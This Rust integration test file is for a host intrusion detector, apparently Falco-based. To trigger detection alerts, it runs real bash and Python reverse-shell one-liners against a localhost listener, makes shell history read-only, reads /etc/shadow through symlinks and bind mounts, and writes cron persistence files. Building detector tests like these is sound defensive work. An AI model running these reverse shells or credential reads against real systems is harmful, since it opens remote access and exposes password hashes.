//! The detector on this host: the default rules against reverse shells, and rules that change while it runs.
#![cfg(feature = "live")]

mod common;

use common::{alerts, root};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// A running detector.
struct Detector {
    child: Child,
    folder: tempfile::TempDir,
}

impl Detector {
    /// Starts it with these rules; `None`, with a recorded skip, if the probe cannot run.
    #[track_caller]
    fn start(rules: &str) -> Option<Self> {
        Self::start_with(|_| rules.to_owned(), |_| String::new())
    }

    /// Starts it with rules and more settings that depend on its folder.
    #[track_caller]
    fn start_with(rules: impl Fn(&Path) -> String, settings: impl Fn(&Path) -> String) -> Option<Self> {
        let folder = tempfile::tempdir().expect("a directory");
        let path = |name: &str| folder.path().join(name);
        std::fs::write(path("rules.yaml"), rules(folder.path())).expect("rules");
        let config = format!(
            "engine: {{kind: modern_ebpf}}\nrules_files: [{}]\nstdout_output: {{enabled: true}}\nlog_stderr: true\n\
             log_syslog: false\nlog_level: info\njson_output: true\n{}",
            path("rules.yaml").display(),
            settings(folder.path())
        );
        std::fs::write(path("falco.yaml"), config).expect("config");
        let child = Command::new(env!("CARGO_BIN_EXE_peregrine"))
            .args(["-c", &path("falco.yaml").display().to_string()])
            .env("FALCO_HOSTNAME", "test")
            .env("TZ", "UTC")
            .stdout(std::fs::File::create(path("out")).expect("a file"))
            .stderr(std::fs::File::create(path("err")).expect("a file"))
            .stdin(Stdio::null())
            .spawn()
            .expect("the program starts");
        let mut detector = Self { child, folder };
        let start = Instant::now();
        while !detector.text("err").contains("watching this host") {
            if detector.child.try_wait().expect("a child").is_some() {
                assert!(!detector.text("err").contains("error["), "{}", detector.text("err"));
                testkit::skip(&testkit::BPF, detector.text("err"));
                return None;
            }
            assert!(start.elapsed() < Duration::from_secs(60), "{}", detector.text("err"));
            std::thread::sleep(Duration::from_millis(20));
        }
        println!("watching after {:?}", start.elapsed());
        Some(detector)
    }

    /// Ends it as a service manager does; returns its output.
    fn end(&mut self) -> String {
        let pid = rustix::process::Pid::from_child(&self.child);
        rustix::process::kill_process(pid, rustix::process::Signal::TERM).expect("a signal");
        assert!(self.child.wait().expect("a child").success(), "{}", self.text("err"));
        self.text("out")
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn text(&self, name: &str) -> String {
        std::fs::read_to_string(self.path(name)).unwrap_or_default()
    }

    /// Waits for an alert of `rule` that contains `part`, and prints how long that took.
    #[track_caller]
    fn expect(&self, rule: &str, part: &str) {
        let start = Instant::now();
        loop {
            let out = self.text("out");
            // The last line may be incomplete.
            let whole = out.rfind('\n').map_or("", |end| &out[..end]);
            let found = alerts(whole).iter().any(|alert| {
                alert["rule"] == rule && alert["output"].as_str().is_some_and(|output| output.contains(part))
            });
            if found {
                println!("{rule}: {:?}", start.elapsed());
                return;
            }
            assert!(start.elapsed() < Duration::from_secs(20), "{rule}, {part}: {out}{}", self.text("err"));
            std::thread::sleep(Duration::from_millis(10));
        }
    }
}

impl Drop for Detector {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Answers one connection with `exit`, like the listener of a reverse shell.
fn answer(listener: &TcpListener) {
    let (mut stream, _) = listener.accept().expect("a connection");
    stream.set_read_timeout(Some(Duration::from_secs(10))).expect("a time limit");
    stream.write_all(b"exit\n").expect("written");
    let mut said = Vec::new();
    // The shell may close the connection in any way.
    let _ = stream.read_to_end(&mut said);
}

/// Runs a command that connects to the listener, with a separate home directory.
fn intrude(listener: &TcpListener, home: &Path, program: &str, script: &str) {
    let mut child = Command::new(program)
        .args(["-c", script])
        .env("HOME", home)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("it starts");
    answer(listener);
    child.wait().expect("a child");
}

#[test]
fn reverse_shells_are_detected() {
    let rules = std::fs::read_to_string(root().join("detector/daemon/rules/peregrine_rules.yaml")).expect("rules");
    let Some(detector) = Detector::start(&rules) else { return };
    let home = detector.path("home");
    std::fs::create_dir(&home).expect("a directory");
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let to = format!("->127.0.0.1:{port}");
    let (input, shell) =
        ("Network socket redirected to standard input", "Reverse shell with a network socket as standard input");

    intrude(&listener, &home, "/bin/bash", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"));
    detector.expect(input, &to);
    detector.expect(shell, "process=bash exe=/usr/bin/bash command=bash -i");

    if Path::new("/usr/bin/python3").exists() {
        let script = format!(
            "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);\
             s.connect((\"127.0.0.1\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);\
             p=subprocess.call([\"/bin/sh\",\"-i\"]);"
        );
        intrude(&listener, &home, "/usr/bin/python3", &script);
        detector.expect(input, "process=python3");
        detector.expect(shell, "command=sh -i parent=python3");
    }

    let link = home.join("innocent");
    std::os::unix::fs::symlink("/bin/bash", &link).expect("a link");
    let script = format!("{} -i >& /dev/tcp/127.0.0.1/{port} 0>&1", link.display());
    intrude(&listener, &home, "/bin/bash", &script);
    detector.expect(shell, "process=innocent exe=/usr/bin/bash");

    let history = home.join(".bash_history");
    std::fs::write(&history, "").expect("a file");
    let script = format!("chmod 0400 {0}; bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1", history.display());
    intrude(&listener, &home, "/bin/bash", &script);
    detector.expect("Shell history made read-only", ".bash_history");

    // The interpreter, a copied shell under another name, and a history without content: one alert names
    // all steps.
    if Path::new("/usr/bin/python3").exists() {
        let copy = home.join("renamed");
        std::fs::copy("/bin/bash", &copy).expect("a copy");
        // Root could write the history all the same, so it is done as another user, who owns it.
        let nobody = 65_534;
        std::fs::set_permissions(&history, std::fs::Permissions::from_mode(0o600)).expect("permissions");
        std::fs::write(&history, "").expect("a history without content");
        for path in [&history, &home] {
            std::os::unix::fs::chown(path, Some(nobody), Some(nobody)).expect("another owner");
        }
        std::fs::set_permissions(detector.folder.path(), std::fs::Permissions::from_mode(0o755)).expect("permissions");
        let script = format!(
            "import socket,subprocess,os;os.setgid({nobody});os.setuid({nobody});os.chmod(\"{}\",0o400);\
             s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);\
             s.connect((\"127.0.0.1\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);\
             p=subprocess.call([\"{}\",\"-i\"]);",
            history.display(),
            copy.display()
        );
        intrude(&listener, &home, "/usr/bin/python3", &script);
        detector.expect("Reverse shell", "as=renamed");
        let out = detector.text("out");
        let whole = out.rfind('\n').map_or("", |end| &out[..end]);
        let all = alerts(whole);
        let of_copy = |alert: &&serde_json::Value| {
            let output = alert["output"].as_str().unwrap_or_default();
            alert["rule"] == "Reverse shell" && output.contains("as=renamed")
        };
        let found: Vec<_> = all.iter().filter(of_copy).collect();
        let [alert] = &found[..] else { panic!("{found:?}") };
        assert_eq!(alert["priority"], "Critical");
        assert!(alert["output"].as_str().is_some_and(|output| output.contains(&to)), "{alert}");
        let steps = alert["steps"].as_array().expect("steps").iter().map(|step| step["step"].clone());
        assert_eq!(steps.collect::<Vec<_>>(), ["connect", "input", "shell"]);
        let output = alert["output"].as_str().unwrap_or_default();
        for part in ["interpreter=/usr/bin/python3", "shell_command=renamed -i", "user=nobody"] {
            assert!(output.contains(part), "{part}: {output}");
        }
        // Nothing of it is in the history, which no longer can be written; that, too, was noticed.
        assert_eq!(std::fs::read(&history).expect("a history"), b"");
        let hidden = all.iter().filter(|alert| alert["rule"] == "Shell history made read-only");
        assert!(hidden.filter(|alert| alert["output"].to_string().contains("process=python3")).count() == 1, "{out}");
    }
}

/// Runs a command that must succeed.
#[track_caller]
fn run(script: &str, arguments: &[&Path]) {
    let mut command = Command::new("/bin/sh");
    command.args(["-c", script, "sh"]).args(arguments).stdin(Stdio::null()).stdout(Stdio::null());
    assert!(command.status().expect("it starts").success(), "{script}");
}

#[test]
fn another_name_of_a_file_is_no_way_round_the_default_rules() {
    let rules = std::fs::read_to_string(root().join("detector/daemon/rules/peregrine_rules.yaml")).expect("rules");
    let Some(detector) = Detector::start(&rules) else { return };
    let read = "Sensitive credential file read";
    let file = |path: &Path| format!("file={} ", path.display());

    let link = detector.path("link");
    std::os::unix::fs::symlink("/etc/shadow", &link).expect("a link");
    run("cat \"$1\"", &[&link]);
    detector.expect(read, &file(&link));

    let folder = detector.path("folder");
    std::os::unix::fs::symlink("/etc", &folder).expect("a link");
    run("cat \"$1/shadow\"", &[&folder]);
    detector.expect(read, &file(&folder.join("shadow")));

    run("cat /proc/self/root/etc/shadow", &[]);
    detector.expect(read, "file=/proc/self/root/etc/shadow ");

    let mount = detector.path("mount");
    std::fs::create_dir(&mount).expect("a directory");
    run("exec unshare --mount -- sh -c 'mount --bind /etc \"$1\" && cat \"$1/shadow\"' sh \"$1\"", &[&mount]);
    detector.expect(read, &file(&mount.join("shadow")));

    let job = detector.path("job");
    std::os::unix::fs::symlink("/etc/cron.d/peregrine-test", &job).expect("a link");
    run("echo '# nothing' >\"$1\"; rm /etc/cron.d/peregrine-test", &[&job]);
    detector.expect("Persistence via scheduled job", &file(&job));
    let moved = detector.path("moved");
    std::fs::write(&moved, "# nothing\n").expect("a file");
    run("mv \"$1\" /etc/cron.d/peregrine-moved; rm /etc/cron.d/peregrine-moved", &[&moved]);
    detector.expect("Persistence via scheduled job", "command=mv ");

    let program = detector.path("program");
    std::fs::copy("/bin/true", &program).expect("a copy");
    run("exec 3<\"$1\"; rm \"$1\"; /proc/self/fd/3", &[&program]);
    detector.expect("Execution of a deleted file", &format!("exe={}", program.display()));
}

#[test]
fn new_rules_may_look_at_calls_that_were_not_captured() {
    let rule = |name: &str, call: &str| {
        format!(
            "- rule: {name}\n  desc: d\n  condition: evt.type = {call} and evt.args contains peregrine-probe\n  \
             output: seen %evt.args by %proc.name\n  priority: INFO\n"
        )
    };
    let Some(detector) = Detector::start(&rule("Link", "link")) else { return };
    // The kernel rejects a folder that does not exist, and the probe reports it all the same.
    let make = || {
        let node = Command::new("mknod").args(["/nonexistent/peregrine-probe", "p"]).stderr(Stdio::null()).status();
        assert!(!node.expect("mknod runs").success());
    };
    make();
    let both = rule("Link", "link") + &rule("Node", "mknodat");
    std::fs::write(detector.path("rules.yaml"), both).expect("rules");
    let start = Instant::now();
    while !detector.text("err").contains("the new rules change the captured set") {
        assert!(start.elapsed() < Duration::from_secs(20), "{}", detector.text("err"));
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(!detector.text("out").contains("Node"), "it was not captured before");
    make();
    detector.expect("Node", "by mknod");
}

/// Correlations over two files of a folder, by each scope, and of each type.
fn correlations(folder: &Path) -> String {
    let folder = folder.display();
    let mut rules = format!(
        "- macro: opened\n  condition: evt.type in (open, openat, openat2) and fd.num >= 0 and fd.directory = {folder}\n\
         - rule: Begin\n  desc: d\n  condition: opened and fd.filename = begin\n  output: begin\n  priority: INFO\n  \
         capture: true\n\
         - rule: End\n  desc: d\n  condition: opened and fd.filename = end and proc.name = cat\n  output: end\n  priority: INFO\n"
    );
    let mut add = |name: &str, kind: &str, steps: &[&str], key: &str, more: &str| {
        let step = |(place, step): (usize, &&str)| {
            let (missing, file) = step.strip_prefix('!').map_or((false, *step), |file| (true, file));
            format!("    - {{as: s{place}, missing: {missing}, condition: 'opened and fd.filename {file}'}}\n")
        };
        let steps: String = steps.iter().enumerate().map(step).collect();
        let shown = if key == "host" { String::new() } else { format!(" of %correlation.{key}") };
        rules += &format!(
            "- correlation: {name}\n  desc: d\n  type: {kind}\n  rules:\n{steps}  group-by: [{key}]\n  timespan: 20s\n  \
             output: \"{name}{shown} %s0.fd.name %first.proc.name %last.proc.cmdline %last.proc.pid %last.proc.exepath \
             %last.user.name %last.container.id %correlation.count %correlation.first %correlation.last\"\n  \
             priority: NOTICE\n{more}"
        );
    };
    for key in ["process", "tree", "session", "container", "user", "host"] {
        add(&format!("by {key}"), "temporal_ordered", &["= a", "= b"], key, "");
    }
    add("count", "event_count", &["in (a, b)"], "session", "  condition: {gte: 3}\n");
    add("values", "value_count", &["in (a, b, c)"], "tree", "  condition: {gte: 3}\n  field: fd.name\n");
    add("any order", "temporal", &["= c", "= a"], "session", "");
    add("missing", "temporal_ordered", &["= a", "= c", "!= b"], "session", "");
    rules.replace("timespan: 20s\n  output: \"missing", "timespan: 1s\n  output: \"missing")
        + "- correlation: chain\n  desc: d\n  type: event_count\n  rules: [by tree, by process]\n  timespan: 20s\n  \
           condition: {gte: 3}\n  output: \"chain %correlation.count\"\n  priority: NOTICE\n"
}

/// Returns the lines of the alerts of correlations, and the number of the event of each step.
fn of_correlations(out: &str) -> (Vec<String>, Vec<u64>) {
    let mut numbers = Vec::new();
    let mut lines = Vec::new();
    for line in out.lines().filter(|line| line.contains("\"steps\":")) {
        let mut parts = line.split("\"evt.num\":");
        let mut text = parts.next().unwrap_or_default().to_owned();
        for part in parts {
            let digits = part.find(|byte: char| !byte.is_ascii_digit()).unwrap_or(part.len());
            numbers.push(part[..digits].parse().expect("a number"));
            text += "\"evt.num\":";
            text += &part[digits..];
        }
        lines.push(text);
    }
    (lines, numbers)
}

/// The alerts of a capture that the detector wrote are those that it raised, byte for byte but for the numbers of events,
/// which begin with the capture.
#[test]
fn a_replay_raises_the_alerts_of_the_live_run() {
    let settings = |folder: &Path| {
        let prefix = folder.join("capture");
        format!("capture: {{enabled: true, path_prefix: {}, default_duration: 60000}}\n", prefix.display())
    };
    let Some(mut detector) = Detector::start_with(correlations, settings) else { return };
    let folder = detector.folder.path().to_owned();
    for name in ["begin", "a", "b", "c", "end"] {
        std::fs::write(folder.join(name), "").expect("a file");
    }
    detector.expect("Begin", "begin");
    let script = "cd \"$1\"; cat a b; (cat a; cat b) ; sh -c 'cat a; (sh -c \"sleep 0.2; cat b\" &) ; exit'; sleep 0.5
                  setsid sh -c 'cat a; (sh -c \"sleep 0.3; exec cat b\" &) ; exit'; sleep 0.6
                  setsid sh -c 'cat a; cat c'; cat a b a; cat c; sleep 2.5; cat end";
    run(script, &[&folder]);
    detector.expect("End", "end");
    let live = detector.end();
    let capture = std::fs::read_dir(&folder).expect("the folder").map(|entry| entry.expect("an entry").path());
    let captures: Vec<PathBuf> = capture.filter(|path| path.extension().is_some_and(|it| it == "scap")).collect();
    let [capture] = &captures[..] else { panic!("{captures:?} {}", detector.text("err")) };
    let config = detector.path("falco.yaml").display().to_string();
    let given = common::replay(capture).into_iter().chain(["-o".to_owned(), "capture.enabled=false".to_owned()]);
    let replayed = common::peregrine(["-c".to_owned(), config].into_iter().chain(given));
    let ((lines, numbers), (again, numbers_again)) = (of_correlations(&live), of_correlations(&replayed.out));
    let names = |lines: &[String]| {
        let all = alerts(&lines.join("\n").replace("\"evt.num\":", "\"evt.num\":0"));
        all.iter().map(|alert| alert["rule"].to_string()).collect::<Vec<_>>()
    };
    assert_eq!(names(&lines), names(&again), "{}", replayed.err);
    for (line, again) in lines.iter().zip(&again) {
        assert_eq!(line, again);
    }
    let rules: std::collections::BTreeSet<String> = names(&lines).into_iter().collect();
    assert_eq!(rules.len(), 11, "every correlation matches: {rules:?}");
    let offset = numbers[0] - numbers_again[0];
    let shifted: Vec<u64> = numbers_again.iter().map(|number| number + offset).collect();
    assert_eq!(numbers, shifted, "numbers differ by where the capture begins");
    println!("{} alerts, numbers differ by {offset}", lines.len());
}
